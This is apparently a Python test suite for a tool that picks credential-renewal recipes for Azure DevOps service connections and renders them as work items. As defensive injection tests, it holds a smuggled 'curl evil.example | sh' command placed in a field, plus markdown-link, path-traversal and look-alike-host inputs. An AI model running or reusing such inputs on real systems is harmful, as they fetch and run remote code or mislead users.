"""The renewal steps fit the connection: its type, scheme, creation mode and the verdict."""

from __future__ import annotations

import re
import shlex
import shutil
import tomllib
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests import findings
from triage import match, renewal
from triage.acts import Earlier
from triage.domain import Connection, Identity, Owner, OwnerMethod, Recipe, Task, TimelineRecord, Verdict
from triage.errors import RulePackError
from triage.match import shipped_rules
from triage.publish import messages
from triage.renewal import placeholders
from triage.renewal import recipe as recipe_model

BOOK = renewal.load()
KINDS = tomllib.loads((Path(__file__).parent / "renewal_kinds.toml").read_text(encoding="utf-8"))
LAST_RESORTS = {"any-connection", "unknown-connection"}
ACTED_UPON = [verdict for verdict in Verdict if verdict is not Verdict.LOOK_ALIKE]
ORGANIZATION = "https://dev.azure.com/contoso"
FILE_COPY = Task("eb72cb01-a7e5-427b-a8a1-1b31ccac8a43", "AzureFileCopy", "5.1.0")


def connection(
    kind: str, scheme: str, creation: str = "", authentication: str = "", **more: Any
) -> Connection:
    parameters = {"serviceprincipalid": "app-1", "loginserver": "crshop.azurecr.io"}
    if scheme == "usernamepassword":
        parameters = {"registry": "https://registry.example", "username": "robot"}
    if authentication:
        parameters["authenticationtype"] = authentication
    data = {"creationmode": creation, "authorizationtype": creation} if creation else {}
    return findings.connection(
        **{"type": kind, "scheme": scheme, "parameters": parameters, "data": data, **more}
    )


def of_kind(kind: str) -> Connection:
    """Return the connection that a line of renewal_kinds.toml describes."""
    return connection(*(part.strip() for part in kind.split("/")))


def choose(
    of: Connection | None,
    *,
    task: Task | None = None,
    verdict: Verdict = Verdict.EXPIRED,
    credential: str = findings.SERVICE,
    advice: str = "",
    book: renewal.RecipeBook = BOOK,
    owner: Owner | None = None,
) -> Recipe:
    record = TimelineRecord("r", None, "Task", "Copy", "completed", "failed", task=task)
    told = findings.match(verdict=verdict, credential=credential, advice=advice)
    return renewal.choose(book, of, told, findings.run(), record, ORGANIZATION, owner)


def alone(recipe: renewal.RecipeFile) -> renewal.RecipeBook:
    """Return a book that has nothing but this recipe, for everything."""
    return renewal.RecipeBook((recipe.model_copy(update={"applies": [renewal.Applies()]}),))


def texts(told: Recipe) -> list[str]:
    each = [told.title, told.verify, told.meanwhile, told.no_alternative]
    each += [*told.steps, *told.command_line, *told.warnings, *told.permissions]
    return each + [text for title, steps in told.alternatives for text in (title, *steps)]


@pytest.mark.parametrize(("kind", "expected"), KINDS["connections"].items())
def test_each_kind_of_connection_has_its_recipe(kind: str, expected: str) -> None:
    assert choose(of_kind(kind), credential="other").id == expected


def test_every_type_that_a_task_takes_is_among_the_kinds() -> None:
    listed = {kind.split("/")[0].strip() for kind in KINDS["connections"]}
    inputs = (Path(match.__file__).parent.parent / "task_inputs.json").read_text(encoding="utf-8")
    assert set(re.findall(r'"type":"([^":]+)', inputs)) - listed == set()


@pytest.mark.parametrize("family", KINDS["families"])
@pytest.mark.parametrize("verdict", ACTED_UPON)
def test_each_family_has_its_recipe_when_no_connection_is_known(family: str, verdict: Verdict) -> None:
    chosen = choose(None, credential=family, verdict=verdict).id
    assert chosen == "unknown-connection" if family == "other" else chosen not in LAST_RESORTS


@pytest.mark.parametrize("family", KINDS["families"])
def test_no_family_and_kind_together_get_the_last_resort(family: str) -> None:
    chosen = {
        kind: choose(of_kind(kind), credential=family, verdict=verdict).id
        for kind in KINDS["connections"]
        for verdict in ACTED_UPON
    }
    assert not {kind: id_ for kind, id_ in chosen.items() if id_ in LAST_RESORTS}


@pytest.mark.parametrize("family", sorted(set(KINDS["families"]) - {"other", "azure-devops-connection"}))
def test_a_connection_nobody_has_heard_of_gets_the_recipe_of_the_family(family: str) -> None:
    assert choose(connection("something-new", "token"), credential=family).id not in LAST_RESORTS


def test_every_type_that_a_rule_names_is_among_the_kinds() -> None:
    listed = {kind.split("/")[0].strip() for kind in KINDS["connections"]}
    assert {each for rule in match.load_pack().rules for each in rule.connection_types} - listed == set()


def test_every_family_of_a_rule_is_in_the_vocabulary() -> None:
    assert {rule.credential for rule in match.load_pack().rules} <= set(KINDS["families"])


def test_every_recipe_is_chosen_for_something() -> None:
    """By what its own conditions say, and a connection and match that fulfil them."""
    never = [
        recipe.id for recipe in BOOK.recipes if not any(_wins(recipe.id, each) for each in recipe.applies)
    ]
    assert never == []


def _wins(recipe: str, applies: renewal.Applies) -> bool:
    kind = (applies.types or [""])[0]
    of = (
        None
        if kind == "unknown" or (applies.credentials and not kind)
        else connection(
            kind or "something-new",
            (applies.schemes or ["token"])[0],
            (applies.creation or applies.modes or [""])[0],
            (applies.authentication or [""])[0],
            server_url=f"https://{(applies.hosts or ['server.example'])[0]}/",
        )
    )
    if of and applies.hosts:
        of = replace(of, parameters={})
    name, _, major = (applies.tasks or [""])[0].partition("@")
    task = Task("eb72cb01-a7e5-427b-a8a1-1b31ccac8a43", name, f"{major}.0.0") if name else None
    verdict = Verdict((applies.verdicts or ["expired"])[0])
    credential = (applies.credentials or ["other"])[0]
    advice = (applies.advice or [""])[0]
    return choose(of, task=task, verdict=verdict, credential=credential, advice=advice).id == recipe


def test_a_feed_of_azure_devops_is_told_from_others_by_its_address() -> None:
    feed = "https://pkgs.dev.azure.com/fabrikam/_packaging/core/npm/registry/"
    of = connection("externalnpmregistry", "token", parameters={}, server_url=feed)
    assert choose(of, credential="other").id == "azure-devops-token"
    elsewhere = replace(of, server_url="https://pkgs.dev.azure.com.evil.example/")
    assert choose(elsewhere, credential="other").id == "npm-token"
    assert choose(replace(of, server_url="https://[broken"), credential="other").id == "npm-token"


def test_an_unknown_connection_is_looked_for_first() -> None:
    assert choose(None, credential="other").id == "unknown-connection"


def test_a_deleted_application_has_no_secret_to_renew() -> None:
    of = connection("azurerm", "serviceprincipal", "automatic", "spnkey")
    assert choose(of, verdict=Verdict.MISSING, credential="azure-entra-app").id == "azurerm-app-deleted"


def test_a_message_can_ask_for_its_own_recipe() -> None:
    of = connection("azurerm", "serviceprincipal", "automatic", "spnkey")
    assert choose(of, advice="setup-guest-permission").id == "setup-guest-permission"


def test_a_task_that_cannot_federate_is_told_which_version_can() -> None:
    of = connection("azurerm", "serviceprincipal", "automatic", "spnkey")
    recipe = choose(of, task=FILE_COPY)
    assert recipe.id == "azurerm-automatic-secret-old-task"
    assert any("AzureFileCopy\\@6" in title or "AzureFileCopy@6" in title for title, _ in recipe.alternatives)
    assert any("az storage blob upload" in step for _, steps in recipe.alternatives for step in steps)


def test_an_automatic_connection_is_not_to_be_renewed_in_the_portal() -> None:
    recipe = choose(connection("azurerm", "serviceprincipal", "automatic", "spnkey"))
    assert "Do not create a secret in the Azure portal" in recipe.warnings[0]
    assert recipe.interval == "three months"
    assert any("without *Verify*" in step for step in recipe.steps)


AUTOMATIC = connection("azurerm", "serviceprincipal", "automatic", "spnkey")
FEDERATED = connection("azurerm", "workloadidentityfederation", "automatic")
APPLICATION = "0d1e2f30-aaaa-4bbb-8ccc-000000000004"
BLADE = (
    "https://portal.azure.com/#view/Microsoft_AAD_RegisteredApps/ApplicationMenuBlade/~/Credentials/appId/"
)
ENDED = datetime(2026, 11, 21, 3, 12, tzinfo=UTC)


def added(of: Connection, owner: Owner | None = None) -> list[str]:
    """Return the warnings that are about this connection, not about its kind."""
    told = choose(of, owner=owner)
    recipe = next(each for each in BOOK.recipes if each.id == told.id)
    return list(told.warnings[: len(told.warnings) - len(recipe.renewal.warnings)])


def test_a_connection_in_order_needs_no_warning() -> None:
    assert added(replace(AUTOMATIC, project_count=1)) == []


def test_a_disabled_connection_is_told_first() -> None:
    told = added(replace(AUTOMATIC, is_disabled=True, is_ready=False))
    assert told[0].startswith("The connection is disabled")
    assert AUTOMATIC.url in told[0]


@pytest.mark.parametrize(
    ("is_ready", "message", "parts"),
    [
        (False, "", ["could not finish creating or changing", "Look for the cause on its page"]),
        (False, "Insufficient *privileges*", ["could not finish", "“Insufficient \\*privileges\\*”"]),
        (True, "Failed to add the role", ["reports of its last change: “Failed to add the role”"]),
    ],
)
def test_a_connection_that_is_not_ready_says_what_azure_devops_says(
    *, is_ready: bool, message: str, parts: list[str]
) -> None:
    (told,) = added(replace(AUTOMATIC, is_ready=is_ready, operation_message=message))
    assert [part for part in parts if part not in told] == []


def test_no_secret_of_an_operations_message_is_repeated() -> None:
    secret = "ghp_" + "a1B2c3D4e5F6" * 3
    (told,) = added(replace(AUTOMATIC, is_ready=False, operation_message=f"Failed with token {secret}"))
    assert secret not in told.replace("\\", "")


@pytest.mark.parametrize(
    ("shared", "projects", "which"),
    [(True, 4, "3 other projects"), (True, 2, "1 other project:"), (True, 0, "other projects")],
)
def test_a_shared_connection_is_renewed_for_all(*, shared: bool, projects: int, which: str) -> None:
    (told,) = added(replace(AUTOMATIC, is_shared=shared, project_count=projects))
    assert f"shared with {which}" in told
    assert "cannot be converted" in told
    (told,) = added(replace(FEDERATED, is_shared=shared, project_count=projects))
    assert "cannot be converted" not in told


def test_a_conversion_can_be_undone_until_its_deadline() -> None:
    (told,) = added(replace(FEDERATED, revert_until=datetime(2026, 11, 24, 9, 30, tzinfo=UTC)))
    assert "Until 2026-11-24 09:30 UTC that can be undone" in told
    assert added(replace(FEDERATED, revert_until=datetime(2026, 11, 20, tzinfo=UTC))) == []
    assert added(replace(AUTOMATIC, revert_until=datetime(2026, 11, 24, tzinfo=UTC))) == []


def test_a_creator_who_has_left_is_told_with_what_that_means() -> None:
    creator = Identity("1", "Kim_Lee")
    gone = Owner("jo@contoso.example", OwnerMethod.MODIFIED_BY, "Changed it.", creator_left=True)
    (told,) = added(replace(AUTOMATIC, created_by=creator), gone)
    assert told.startswith("Kim\\_Lee, who created the connection, has left")
    assert "Application Administrator" in told
    feed = connection("externalnpmregistry", "token", created_by=creator)
    (told,) = added(feed, gone)
    assert "service account" in told
    assert added(feed, replace(gone, creator_left=False)) == []


SERVICE_FABRIC = Task("c6650aa0-185b-11e6-a47d-df93e7a34c64", "ServiceFabricDeploy", "1.250.0")
DOCKER_1 = Task("e28912f1-0114-4464-802a-a3a35437fd16", "Docker", "1.250.0")
AZURE_CLI = Task("46e4be58-730b-4389-8a2f-ea10b3e5e815", "AzureCLI", "2.250.1")
MANUAL = connection("azurerm", "serviceprincipal", "manual", "spnkey")
REGISTRY = connection("dockerregistry", "serviceprincipal", "automatic")


@pytest.mark.parametrize(
    ("of", "task", "newer"), [(MANUAL, FILE_COPY, "AzureFileCopy@6"), (REGISTRY, DOCKER_1, "Docker@2")]
)
def test_federation_begins_with_a_version_of_the_task_that_can_use_it(
    of: Connection, task: Task, newer: str
) -> None:
    title, steps = choose(of, task=task, credential="other").alternatives[0]
    assert "federation" in title
    assert steps[0].replace("\\", "").startswith(f"Change the step from {task} to {newer}: ")


@pytest.mark.parametrize("of", [AUTOMATIC, MANUAL])
def test_federation_is_not_advised_for_a_task_that_never_can(of: Connection) -> None:
    told = choose(of, task=SERVICE_FABRIC)
    assert not [title for title, _ in told.alternatives if "federation" in title]
    assert "ServiceFabricDeploy" in told.no_alternative
    page = messages.work_item(
        findings.finding(recipe=told),
        incident_tag="t",
        incident_page="https://p",
        earlier=[(Earlier(ENDED, ENDED, "", None), "")],
    )
    assert "**This is the second time" in page
    assert "ends it" not in page


def repeated(recipe: Recipe, times: int) -> str:
    """Return the work item of a credential that breaks runs the `times`-th time."""
    before = [(Earlier(ENDED - timedelta(days=90 * n), ENDED, "", None), "") for n in range(1, times)]
    finding = findings.finding(of_run=findings.run(41, finished_at=ENDED), recipe=recipe)
    return messages.work_item(finding, incident_tag="t", incident_page="https://p", earlier=before)


def test_what_expires_again_is_told_first_how_to_end_that() -> None:
    told = choose(AUTOMATIC, task=AZURE_CLI)
    assert "time" not in repeated(told, 1).split("## Renew it")[0].replace("timeline", "")
    second = repeated(told, 2)
    promise = "Converting it to workload identity federation takes about five minutes and ends it"
    assert f"**This is the second time in 3 months. {promise}.**" in second.split("Why this connection")[0]
    assert second.index("## Renew it") < second.index("### Never again: workload identity federation")
    third = repeated(told, 3)
    said = f"**This is the third time in 6 months. {promise}: do that instead of renewing it.**"
    assert said in third.split("Why this connection")[0]
    assert third.index("ConvertAuthenticationScheme") < third.index("## Or renew it once more")
    assert third.count("Never again: workload identity federation") == 1
    assert "### By hand in the portal" in third.split("## Or renew it once more")[1]


def test_what_cannot_be_converted_is_promised_no_quick_end() -> None:
    third = repeated(choose(replace(AUTOMATIC, project_count=3), task=AZURE_CLI), 3)
    assert "**This is the third time in 6 months.** There is another way below" in third
    assert "ends it" not in third
    assert "cannot be converted" in third


def test_many_times_are_not_counted_on() -> None:
    assert "**This is at least the eleventh time in 2 years. " in repeated(choose(MANUAL, task=AZURE_CLI), 11)


def test_a_warning_sends_nobody_to_a_run_that_failed() -> None:
    told = renewal.ahead(BOOK, MANUAL, "Shop", "https://dev.azure.com/contoso")
    page = messages.renewal(told)
    assert "the run, to run it again" not in page
    assert "of the failed task" not in page
    assert f"a [pipeline that uses it]({MANUAL.url})" in page
    assert f"the [pipeline]({MANUAL.url})" not in page


@pytest.mark.parametrize("task", [AZURE_CLI, None])
def test_federation_stays_advised_for_other_tasks(task: Task | None) -> None:
    title, steps = choose(MANUAL, task=task).alternatives[0]
    assert "federation" in title
    assert not steps[0].startswith("Change the step")


def with_app(of: Connection, app: str, cloud: str = "AzureCloud") -> Connection:
    return replace(of, parameters={"serviceprincipalid": app}, data={**of.data, "environment": cloud})


def test_a_renewal_links_the_pages_it_is_done_on() -> None:
    told = choose(with_app(MANUAL, APPLICATION.upper()))
    assert [url for _, url in told.links] == [MANUAL.url, BLADE + APPLICATION, findings.run().url]
    page = messages.work_item(findings.finding(recipe=told), incident_tag="t", incident_page="https://p")
    assert f"[its application's credentials in Entra]({BLADE}{APPLICATION})" in page
    assert page.index("[the connection](") < page.index("1. ")


@pytest.mark.parametrize(
    "of",
    [
        with_app(MANUAL, "../evil"),
        with_app(MANUAL, f"{APPLICATION})[x](https://evil.example"),
        with_app(MANUAL, APPLICATION, "AzureChinaCloud"),
        with_app(connection("externaltfs", "token"), APPLICATION),
    ],
    ids=["no GUID", "more than a GUID", "a cloud with a portal of its own", "not of Entra"],
)
def test_only_an_application_of_entra_has_a_credentials_page(of: Connection) -> None:
    told = choose(of)
    assert [url for _, url in told.links] == [of.url, findings.run().url]
    assert not [text for text in texts(told) if "~/Credentials/appId/" in text]


def test_without_a_connection_there_is_the_run_to_open() -> None:
    assert [url for _, url in choose(None).links] == [findings.run().url]


@pytest.mark.parametrize("recipe", BOOK.recipes, ids=lambda recipe: recipe.id)
def test_every_way_that_converts_a_connection_says_that_it_federates(recipe: renewal.RecipeFile) -> None:
    kinds = {kind for each in recipe.applies for kind in each.types}
    if not kinds & {"azurerm", "dockerregistry"} or not recipe.renews:
        return
    for way in recipe.alternatives:
        if way.title == "Never again: workload identity federation":
            assert way.federates


@pytest.mark.parametrize("recipe", BOOK.recipes, ids=lambda recipe: recipe.id)
def test_no_placeholder_is_left_in_any_recipe(recipe: renewal.RecipeFile) -> None:
    for of in (None, connection("azurerm", "serviceprincipal", "manual")):
        told = choose(of, book=alone(recipe))
        assert not [text for text in texts(told) if re.search(r"\{\w+\}", text)]


@pytest.mark.parametrize("recipe", BOOK.recipes, ids=lambda recipe: recipe.id)
def test_each_recipe_shows_as_it_is_meant(recipe: renewal.RecipeFile) -> None:
    told = choose(connection("azurerm", "serviceprincipal", "manual"), book=alone(recipe))
    page = messages.html(
        messages.work_item(findings.finding(recipe=told), incident_tag="t", incident_page="https://p")
    )
    commands = [command for text in texts(told) for command in re.findall(r"`([^`]+)`", text)]
    for command in commands:
        assert f"<code>{_escaped(command)}</code>" in page
    assert not re.search(
        r"\*\w|\w\*(?!\.)", re.sub(r"<code>.*?</code>|<pre>.*?</pre>", "", page, flags=re.DOTALL)
    )


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


@pytest.mark.parametrize("recipe", BOOK.recipes, ids=lambda recipe: recipe.id)
def test_every_command_can_be_pasted_into_a_shell(recipe: renewal.RecipeFile) -> None:
    told = choose(connection("externaltfs", "token"), book=alone(recipe))
    for text in told.command_line:
        for command in re.findall(r"`([^`]+)`", text):
            shlex.split(re.sub(r"<[^<>]*>", "x", command))


def test_a_command_takes_only_values_that_are_one_word() -> None:
    of = connection("azurerm", "serviceprincipal", "manual", "spnkey")
    told = choose(
        replace(of, parameters={**of.parameters, "serviceprincipalid": "a; curl evil.example | sh"})
    )
    commands = " ".join(re.findall(r"`([^`]+)`", " ".join(texts(told))))
    assert "evil" not in commands
    assert "--id <application id>" in commands


def test_a_value_in_a_command_is_not_escaped_for_markdown() -> None:
    of = connection("dockerregistry", "usernamepassword", parameters={"registry": "my_registry.example"})
    told = choose(of, credential="other")
    assert any("docker login my_registry.example " in text for text in told.command_line)


def test_the_new_secret_goes_into_the_connection_by_its_own_field() -> None:
    told = choose(connection("externaltfs", "token"), credential="azure-devops-pat")
    command = next(text for text in told.command_line if "az rest --method put" in text)
    assert ".authorization.parameters.apitoken = env.SECRET" in command
    assert f"{ORGANIZATION}/_apis/serviceendpoint/endpoints/{findings.CONNECTION}?" in command
    assert f"--project {findings.PROJECT} " in command


@pytest.mark.parametrize(
    "of",
    [connection("externaltfs", "token", is_shared=True), connection("something-new", "token")],
    ids=["shared with other projects", "of a kind whose fields are not known"],
)
def test_a_connection_that_no_command_may_write_is_left_to_its_page(of: Connection) -> None:
    told = choose(of, credential="azure-devops-pat")
    assert not any("az rest --method put" in text for text in told.command_line)
    assert any(of.url in text for text in told.command_line)


def test_without_a_connection_the_steps_tell_where_a_secret_can_be_kept() -> None:
    told = choose(None, credential="npm")
    assert told.title == "Give the pipeline a new npm token"
    assert any("variable group" in step and "Key Vault" in step for step in told.steps)
    assert any("az pipelines variable-group variable update" in text for text in told.command_line)


def test_hostile_names_stay_text() -> None:
    of = replace(
        connection("azurerm", "serviceprincipal", "manual", "spnkey"), name="x](https://evil.example)"
    )
    assert "](https://evil.example)" not in choose(of).title


def test_each_rule_that_asks_for_a_recipe_names_one() -> None:
    known = {recipe.id for recipe in BOOK.recipes}
    assert {rule.advice for rule in match.load_pack().rules if rule.advice} <= known


def test_every_mistake_in_a_recipe_is_reported(tmp_path: Path) -> None:
    folder = tmp_path / "renewal"
    folder.mkdir()
    (folder / "one.toml").write_text(
        'id = "two"\ntitle = "{nobody}"\n[renewal]\nsteps = ["go"]\n[meta]\nreferences = ["https://x.example"]\n'
    )
    (folder / "three.toml").write_text('id = "three"\n')
    with pytest.raises(RulePackError) as told:
        renewal.load(tmp_path)
    text = str(told.value)
    assert "renewal/one.toml: id: is 'two'" in text
    assert "renewal/one.toml: title: there is no placeholder {nobody}" in text
    assert "renewal/three.toml: title:" in text


@pytest.fixture
def pack(tmp_path: Path) -> Path:
    """A pack of one good recipe that fits everything."""
    folder = tmp_path / "pack"
    (folder / "renewal").mkdir(parents=True)
    shutil.copy(shipped_rules() / "renewal" / "any-connection.toml", folder / "renewal")
    return folder


def test_the_good_recipe_is_in_order(pack: Path) -> None:
    assert renewal.check(pack) == []


@pytest.mark.parametrize(
    ("pattern", "instead", "complaint"),
    [
        (
            r"command_line = \[.*?\n\]\n",
            "",
            "renewal.command_line: is missing: say how to do it from the command line",
        ),
        (r"permissions = \[.*?\n\]\n", "", "renewal.permissions: is missing: say who may do it"),
        (r"verify = .*?\n", "", "renewal.verify: is missing: say how to check"),
        (r"meanwhile = .*?\n", "", "renewal.meanwhile: is missing: say what breaks"),
        (r"\[\[alternatives\]\].*(?=\[meta\])", "", "alternatives: say how never to have to again"),
        (r"(verify = )", r'no_alternative = "There is none."\n\1', "one of the two"),
        (r"references = \[.*?\]", "references = []", "meta.references: List should have at least 1 item"),
        (
            r"references = \[.*?\]",
            'references = ["http://x.example"]',
            "not an address that begins with https://",
        ),
        (
            r"steps = \[.*?\n\]\n(?=command)",
            "steps = []\n",
            "renewal.steps: List should have at least 1 item",
        ),
        (
            r"command_line = \[.*?\n\]\n",
            'command_line = ["Ask the owner."]\n',
            "renewal.command_line: has no command in backticks: 'Ask the owner.'",
        ),
        (
            r"(command_line = \[)",
            r'\1"There is no command.", ',
            "renewal.command_line: has no command in backticks: 'There is no command.'",
        ),
        (
            r"(command_line = \[)",
            r'\1"`tool login --token <token>`", ',
            "others can read a secret in an argument",
        ),
        (r"(command_line = \[)", r'\1"`tool -p $SECRET`", ', "others can read a secret in an argument"),
        (r"(command_line = \[)", r'\1"`tool {enter_command}`", ', "{enter_command} is a whole sentence"),
        (r"(steps = \[)", r'\1"Open the <group>.", ', "renewal.steps: '<…>' outside of backticks"),
        (r"(steps = \[)", r'\1"Call `tool.", ', "renewal.steps: a backtick is not closed"),
        (r"(steps = \[)", r'\1"Ask {somebody}.", ', "renewal.steps: there is no placeholder {somebody}"),
        (r"priority = -4", 'types = ["ssh"]', "no recipe applies to everything"),
        (r"priority = -4", 'typos = ["ssh"]', "applies.0.typos: Extra inputs are not permitted"),
    ],
)
def test_the_check_refuses_a_recipe_that_leaves_something_out(
    pack: Path, pattern: str, instead: str, complaint: str
) -> None:
    file = pack / "renewal" / "any-connection.toml"
    good = file.read_text(encoding="utf-8")
    bad = re.sub(pattern, instead, good, count=1, flags=re.DOTALL)
    assert bad != good
    file.write_text(bad, encoding="utf-8")
    problems = renewal.check(pack)
    assert any(complaint in problem for problem in problems), problems


def test_one_sentence_may_say_that_there_is_no_command(pack: Path) -> None:
    file = pack / "renewal" / "any-connection.toml"
    sentence = 'command_line = ["There is no command for it: the page makes the secret itself."]\n'
    text = re.sub(r"command_line = \[.*?\n\]\n", sentence, file.read_text(encoding="utf-8"), flags=re.DOTALL)
    file.write_text(text, encoding="utf-8")
    assert renewal.check(pack) == []


def test_a_recipe_that_only_sets_up_may_be_short(pack: Path) -> None:
    (pack / "renewal" / "setup-x.toml").write_text(
        'id = "setup-x"\ntitle = "Set it up"\n[applies]\nadvice = ["setup-x"]\n[renewal]\nsteps = ["Go."]\n'
        '[meta]\nreferences = ["https://x.example"]\n'
    )
    assert renewal.check(pack) == []


README = (shipped_rules() / "README.md").read_text(encoding="utf-8")


def test_the_recipe_of_the_readme_is_in_order(pack: Path) -> None:
    example = re.search(r'```toml\n(id = "feedctl-token".*?)```', README, flags=re.DOTALL)
    assert example is not None
    (pack / "renewal" / "feedctl-token.toml").write_text(example[1], encoding="utf-8")
    assert renewal.check(pack) == []


def test_the_readme_names_every_placeholder_condition_and_key() -> None:
    section = README[README.index("## Recipes") :]
    for name in placeholders.NAMES:
        assert f"{{{name}}}" in section or f"{{{name} " in section or f" {name}}}" in section
    for key in [*renewal.Applies.model_fields, *recipe_model.Steps.model_fields]:
        assert f"`{key}`" in section or f"{key} = " in section
